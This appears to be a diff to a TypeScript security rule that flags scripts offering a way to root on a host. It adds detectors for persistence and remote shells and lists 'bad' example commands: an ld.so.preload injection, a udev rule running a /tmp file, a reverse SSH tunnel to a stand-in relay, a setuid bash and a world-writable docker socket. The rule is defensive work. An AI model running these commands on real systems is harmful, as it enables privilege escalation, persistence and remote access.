@@ -1,5 +1,7 @@
 import { run } from "../../lib/command-examples.ts";
 import { rootBy, rootIn } from "../../lib/host/root-grants.ts";
+import { plantedBy, plantedIn } from "../../lib/host/run-by-itself.ts";
+import { doorIn } from "../../../containment/remote-shells.ts";
 import type { Rule } from "../../lib/rule.ts";
 import { HOLDING } from "../../lib/scripts/places.ts";
 import { findingsInScripts } from "../../lib/scripts/reading.ts";
@@ -15,14 +17,19 @@ export const rule: Rule = {
   waivable: "by-configuration",
   types: [...HOLDING],
   check: (resource) =>
-    findingsInScripts(resource, ({ script: { calls, files }, where }) =>
-      [...calls.flatMap((call) => rootBy(call, where)), ...files.flatMap((file) => rootIn(file, where))].map(
-        (found) => ({
-          found,
-          expected: "no way to root",
-        }),
-      ),
-    ),
+    findingsInScripts(resource, ({ script: { calls, files }, where }) => {
+      const found = [...calls.flatMap((call) => rootBy(call, where)), ...files.flatMap((file) => rootIn(file, where))];
+      // In a container it is about the container's own programs, and its command is judged by a rule on containers.
+      const onHost =
+        where === "container"
+          ? []
+          : [
+              ...calls.flatMap(plantedBy),
+              ...files.flatMap(plantedIn),
+              ...calls.flatMap(({ argv }) => doorIn(argv.join(" ")) ?? []),
+            ];
+      return [...found, ...onHost].map((one) => ({ found: one, expected: "no way to root" }));
+    }),
   examples: {
     good: [
       run("A group that is no more than one", "usermod -aG video agent"),
@@ -30,6 +37,7 @@ export const rule: Rule = {
         "One command as root",
         "echo 'deploy ALL=(root) NOPASSWD: /usr/bin/systemctl reload nginx' > /etc/sudoers.d/deploy",
       ),
+      run("A library of the system", "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 node server.js"),
       run("A namespace of a container's", "nsenter -t 4711 -n ip address"),
       run("A link within the system", "ln -s /etc/nginx/sites-available/example /etc/nginx/sites-enabled/example"),
     ],
@@ -41,6 +49,9 @@ export const rule: Rule = {
       run("The host's namespaces", "nsenter -t 1 -m -u -i -n -p -- sh"),
       run("A link to the host's root", "ln -sfn / /srv/example/workspace/root"),
       run("A shell that runs as root", "chmod u+s /bin/bash"),
+      run("A library in every program", "echo /tmp/example.so >> /etc/ld.so.preload"),
+      run("A program that udev runs", `echo 'ACTION=="add", RUN+="/tmp/example"' > /etc/udev/rules.d/99-example.rules`),
+      run("A tunnel back into the host", "ssh -N -R 2222:localhost:22 relay@192.0.2.10"),
       run("The socket for everybody", "chmod 666 /var/run/docker.sock"),
     ],
   },
